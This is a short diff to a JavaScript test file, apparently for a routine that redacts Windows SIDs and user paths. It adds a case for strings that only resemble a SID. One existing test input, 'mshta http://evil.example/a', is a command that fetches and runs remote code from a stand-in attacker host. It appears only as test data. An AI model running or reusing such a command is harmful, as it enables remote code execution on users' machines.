@@ -56,6 +56,7 @@ describe('all else stays', () => {
     ['accounts of every Windows', 'S-1-5-18 S-1-5-32-544'],
     ['folders of all users', '\\Users\\Public\\a.exe \\Users\\Default\\b'],
     ['a folder that only begins like one', '\\Users2\\anna\\a.exe'],
+    ['what only looks like a SID', 'S-1-5-21-1-2-3-12345678901 S-1-5-21-1-2'],
     ['other variables', '%TEMP%\\a.exe %x% 100%'],
     ['URLs', 'mshta http://evil.example/a file:///x'],
     ['options with a colon', '/ru:SYSTEM a:b'],
